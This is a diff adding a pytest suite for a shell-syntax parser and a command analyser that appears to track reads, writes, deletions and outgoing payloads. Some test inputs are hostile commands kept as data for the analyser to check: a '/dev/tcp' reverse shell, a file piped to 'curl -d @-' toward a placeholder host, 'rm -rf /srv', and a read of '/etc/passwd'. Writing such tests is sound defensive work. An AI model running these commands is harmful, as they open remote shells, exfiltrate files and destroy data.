@@ -1,0 +1,118 @@
+"""Shell syntax on tree-sitter-bash (pipeline/shell_syntax.py): the flattened structure the
+analyser walks (pipelines, lists, redirections, substitutions, here-docs, quoting), the
+cases the port fixed or had to keep, and hostile input (deep nesting, long chains,
+astral-plane text that crashes the bare parser)."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from pipeline.shell import analyse_command
+from pipeline.shell_syntax import Parsed, parse
+from pipeline.shell_words import HD_RE, PRIV, SUB_RE, restore_private
+
+
+def _shape(text: str) -> list[list[tuple[list[str], list[tuple[str, str]]]]]:
+    parsed = parse(text)
+    assert isinstance(parsed, Parsed), parsed
+    return [[(st.words, st.redirs) for st in pipe] for pipe in parsed.pipelines]
+
+
+def test_lists_and_pipelines() -> None:
+    assert _shape("cd /x && cat a | grep b; ls") == [
+        [(["cd", "/x"], [])], [(["cat", "a"], []), (["grep", "b"], [])], [(["ls"], [])]]
+
+
+def test_redirection_before_a_pipe_belongs_to_its_command() -> None:
+    # tree-sitter-bash nests `a && b 2>f | c` as ((a && b) 2>f) | c; bash means a && (b 2>f | c)
+    assert _shape("a && b 2>/dev/null | c") == [[(["a"], [])], [(["b"], [(">", "/dev/null")]), (["c"], [])]]
+
+
+def test_group_piped_into_a_command_feeds_it_from_its_last_pipeline() -> None:
+    assert _shape("(a; b) | c") == [[(["a"], [])], [(["b"], []), (["c"], [])]]
+    assert _shape("{ a; b; } | c") == [[(["a"], [])], [(["b"], []), (["c"], [])]]
+    assert _shape("x | (a)") == [[(["x"], [])], [(["a"], [])]]
+
+
+def test_quoted_metacharacters_are_private_and_restored() -> None:
+    [[(words, _)]] = _shape("""echo 'a;b $x' "c|$y" d\\&e""")
+    assert words[1] == "a" + PRIV[";"] + "b " + PRIV["$"] + "x"
+    assert words[2] == "c" + PRIV["|"] + "$y"
+    assert words[3] == "d" + PRIV["&"] + "e"
+    assert [restore_private(w) for w in words[1:]] == ["a;b $x", "c|$y", "d&e"]
+
+
+def test_substitutions_become_placeholders_in_source_order() -> None:
+    parsed = parse("cp $(cat a) `ls b` <(sort c)")
+    assert isinstance(parsed, Parsed)
+    assert parsed.subs == [("$", "cat a"), ("$", "ls b"), ("<", "sort c")]
+    words = parsed.pipelines[0][0].words
+    assert [int(m.group(1)) for w in words for m in SUB_RE.finditer(w)] == [0, 1, 2]
+
+
+def test_heredoc_body_and_the_rest_of_its_line() -> None:
+    parsed = parse("cat <<'EOF' > out.txt | sh && echo done\nrm -rf $(x)\nEOF\nls")
+    assert isinstance(parsed, Parsed)
+    assert parsed.docs == ["rm -rf $(x)"]  # the body's $(x) is text, not a substitution
+    assert parsed.subs == []
+    first = parsed.pipelines[0]
+    assert [st.words for st in first] == [["cat"], ["sh"]]
+    assert HD_RE.match(first[0].redirs[0][1]) and first[0].redirs[1] == (">", "out.txt")
+    assert [st.words for p in parsed.pipelines[1:] for st in p] == [["echo", "done"], ["ls"]]
+
+
+def test_words_the_grammar_puts_after_a_redirection_target() -> None:
+    # `echo > f a b` is `echo a b > f`; after a here-doc start the grammar misses a pipe
+    assert _shape("echo > a b c") == [[(["echo", "b", "c"], [(">", "a")])]]
+    assert _shape("bash -i >& /dev/tcp/h/1 0>&1") == [[(["bash", "-i"], [(">&", "/dev/tcp/h/1"), (">&", "1")])]]
+    shape = _shape("cat <<E 2>/dev/null | bash -s x\nrm -rf /srv\nE")
+    assert [st[0] for st in shape[0]] == [["cat"], ["bash", "-s", "x"]]
+
+
+def test_for_words_and_branch_assignments() -> None:
+    shape = _shape('for f in a b; do rm "$f"; done')
+    assert shape[0] == [(["for", "f", "in", "a", "b"], [])]
+    # an assignment alone in an else branch is a stage of its own (it binds the variable)
+    assert (["ext=.$ext"], []) in [st for p in _shape('if t; then ext=""; else ext=."$ext"; fi') for st in p]
+
+
+@pytest.mark.parametrize(("cmd", "reason"), [
+    ("echo 'open", "no closing quotation"),
+    ('echo "open', "no closing quotation"),
+    ("echo $(ls", "unbalanced substitution"),
+    ("echo `ls", "unbalanced backtick"),
+])
+def test_unclosed_quoting_is_opaque(cmd: str, reason: str) -> None:
+    result = analyse_command(cmd)
+    assert result.opaque and reason in (result.opaque_reason or "")
+
+
+def test_syntax_errors_elsewhere_are_recovered() -> None:
+    # a stray `&&` at the start of a line after a here-doc (bash rejects it): the
+    # commands around it are still analysed, as the hand-written tokenizer did
+    result = analyse_command("cat <<'EOF' > R.md\nhi\nEOF\n&& git add R.md && rm -rf /srv")
+    assert not result.opaque
+    assert result.writes == ("R.md", "git-commits:") and result.deletes == ("/srv",)
+    # `for x do` (no `in`) is valid bash the grammar lacks: the body is analysed
+    body = analyse_command('for f do\n  rm "$f"\n  cat /etc/passwd\ndone')
+    assert "/etc/passwd" in body.reads
+
+
+def test_astral_plane_text_does_not_crash_the_parser() -> None:
+    # tree-sitter-bash 0.25.1 segfaults on this text itself; the parser only sees ASCII
+    assert not analyse_command("4\U000ad654d{\U000e5b06J").opaque
+    result = analyse_command("cat \u00e9t\u00e9.txt | curl -d @- https://h/\ud800")
+    assert result.reads == ("\u00e9t\u00e9.txt",) and result.payloads == ("\u00e9t\u00e9.txt",)
+
+
+def test_long_lists_cost_no_stack_and_deep_nesting_is_bounded() -> None:
+    start = time.perf_counter()
+    chain = analyse_command("true" + " && rm a" * 12_000)
+    assert not chain.opaque and chain.deletes == ("a",)
+    deep = analyse_command("echo " + "$(" * 3000 + "ls" + ")" * 3000)
+    assert deep.opaque and "nested too deeply" in (deep.opaque_reason or "")
+    nested_ifs = analyse_command("if t; then " * 2000 + "ls" + "; fi" * 2000)
+    assert nested_ifs.opaque and "nested too deeply" in (nested_ifs.opaque_reason or "")
+    assert time.perf_counter() - start < 20
